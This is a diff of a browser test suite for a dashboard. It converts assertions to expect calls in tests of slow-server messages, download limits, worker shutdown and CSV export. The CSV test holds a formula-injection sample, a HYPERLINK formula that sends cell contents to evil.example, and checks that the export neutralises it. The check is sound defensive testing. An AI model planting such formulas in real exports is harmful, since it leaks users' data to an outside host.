@@ -4,7 +4,7 @@
 import { createServer } from 'node:http';
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { test, assert, ROOT } from './harness.mjs';
+import { test, expect, ROOT } from './fixtures.mjs';
 
 const minimal = readFileSync(join(ROOT, 'tests/fixtures/minimal.json'));
 
@@ -65,9 +65,8 @@ test('limits: a slow server is named after 10 s; "Keep waiting" waits, and the d
     const alert = page.getByRole('alert');
     await alert.waitFor({ timeout: 20_000 });
     const text = await alert.innerText();
-    assert(
-      /127\.0\.0\.1:\d+ has not sent the whole dataset after 10 seconds/.test(text),
-      `says which server and how long: ${text}`,
+    expect(text, `says which server and how long: ${text}`).toMatch(
+      /127\.0\.0\.1:\d+ has not sent the whole dataset after 10 seconds/,
     );
     await page.setViewportSize({ width: 375, height: 700 });
     await shot('limits-slow-375');
@@ -75,7 +74,7 @@ test('limits: a slow server is named after 10 s; "Keep waiting" waits, and the d
     await shot('limits-slow-1280');
     await page.getByRole('button', { name: 'Keep waiting' }).click();
     await alert.waitFor({ state: 'detached' });
-    assert((await page.getByRole('status').innerText()).includes('dataset'), 'still loading after "Keep waiting"');
+    expect(await page.getByRole('status').innerText(), 'still loading after "Keep waiting"').toContain('dataset');
     slow.release();
     await page.getByRole('figure', { name: /^UNGA sessions/ }).waitFor({ timeout: 20_000 });
   }));
@@ -90,7 +89,7 @@ test('limits: "Stop loading" ends the wait with a message that says what to do',
         /stopped waiting for http:\/\/127\.0\.0\.1:\d+\/slow\.json after \d+ s: the server is slow or not answering/,
       )
       .waitFor();
-    assert((await page.getByRole('button', { name: 'Keep waiting' }).count()) === 0, 'the choice is gone once made');
+    expect(await page.getByRole('button', { name: 'Keep waiting' }).count(), 'the choice is gone once made').toBe(0);
   }));
 
 test('limits: the checking worker starts while the dataset downloads, and stops with "Stop loading"', async ({
@@ -104,16 +103,17 @@ test('limits: the checking worker starts while the dataset downloads, and stops 
       .getByRole('status')
       .getByText(/Downloading the dataset|Fetching the dataset/)
       .waitFor({ timeout: 20_000 });
-    const deadline = Date.now() + 10_000;
-    while (page.workers().length === 0 && Date.now() < deadline) await page.waitForTimeout(50);
-    assert(page.workers().length === 1, `one worker while the dataset downloads, found ${page.workers().length}`);
+    await expect
+      .poll(() => page.workers().length, { message: 'one worker while the dataset downloads', timeout: 10_000 })
+      .toBe(1);
     await page.getByRole('button', { name: 'Stop loading' }).click({ timeout: 20_000 });
     await page
       .getByRole('main')
       .getByText(/stopped waiting for/)
       .waitFor();
-    while (page.workers().length > 0 && Date.now() < deadline) await page.waitForTimeout(50);
-    assert(page.workers().length === 0, 'the worker is stopped with the download');
+    await expect
+      .poll(() => page.workers().length, { message: 'the worker is stopped with the download', timeout: 10_000 })
+      .toBe(0);
   }));
 
 test('limits: an endless body is cut at 128 MB with a message, and the download stops', async ({ page, origin }) =>
@@ -123,12 +123,10 @@ test('limits: an endless body is cut at 128 MB with a message, and the download 
       .getByRole('main')
       .getByText(/endless\.json is too large \(more than 128 MB; the dashboard reads at most 128 MB\): split it/)
       .waitFor({ timeout: 60_000 });
-    await page.waitForTimeout(500);
-    const { sent, closed } = server.endless();
-    assert(closed, 'the page closed the connection');
-    assert(
-      sent < 400 * (1 << 20),
-      `the server sent ${Math.round(sent / (1 << 20))} MB before the page stopped reading`,
+    await expect.poll(() => server.endless().closed, { message: 'the page closed the connection' }).toBeTruthy();
+    const { sent } = server.endless();
+    expect(sent, `the server sent ${Math.round(sent / (1 << 20))} MB before the page stopped reading`).toBeLessThan(
+      400 * (1 << 20),
     );
   }));
 
@@ -145,6 +143,6 @@ test('limits: CSV downloads neutralise formulas from a hostile dataset', async (
   const rows = csvParseRows(csv.replace(/^\ufeff#[^\n]*\n/, ''));
   const cells = rows.slice(1).flat();
   const live = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c));
-  assert(live.length === 0, `no cell starts a formula: ${live.join(' | ')}`);
-  assert(cells.includes(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`), 'the formula text is kept, as text');
+  expect(live.length, `no cell starts a formula: ${live.join(' | ')}`).toBe(0);
+  expect(cells, 'the formula text is kept, as text').toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
 });
